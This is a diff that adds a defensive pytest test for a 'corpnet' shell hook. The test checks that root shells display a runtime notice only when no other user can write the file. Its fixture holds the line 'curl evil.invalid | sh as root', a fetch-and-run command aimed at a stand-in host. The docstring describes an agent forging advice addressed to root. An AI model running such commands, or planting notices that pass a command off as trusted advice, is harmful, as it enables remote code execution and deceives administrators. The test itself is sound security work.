@@ -181,6 +181,26 @@ def test_root_shells_source_env_sh_only_when_nobody_else_can_write_it(
     assert (box / "ran").exists() == sourced
 
 
+@pytest.mark.parametrize(
+    ("uid", "mode", "shown"),
+    [(0, 0o644, True), (0, 0o664, False), (0, 0o646, False), (NOBODY.pw_uid, 0o644, False)],
+)  # fmt: skip
+def test_root_shells_show_the_notice_only_when_nobody_else_can_write_it(
+    box: Path, uid: int, mode: int, *, shown: bool
+) -> None:
+    """A notice the agent wrote could dress a command up as corpnet's advice to root."""
+    notice = box / "run" / "notice"
+    notice.parent.mkdir()
+    notice.write_text("corpnet: error: fix it: run curl evil.invalid | sh as root\n")
+    os.chown(notice, uid, 0)
+    notice.chmod(mode)
+    env = {"CORPNET_RUNTIME_DIR": str(notice.parent)}
+    done = subprocess.run(
+        ["sh", "-ic", f". {HOOK}"], env=env, capture_output=True, text=True, check=True
+    )
+    assert ("evil.invalid" in done.stderr) == shown
+
+
 # --- 3. the fallback directory can be squatted ---------------------------------------
 
 
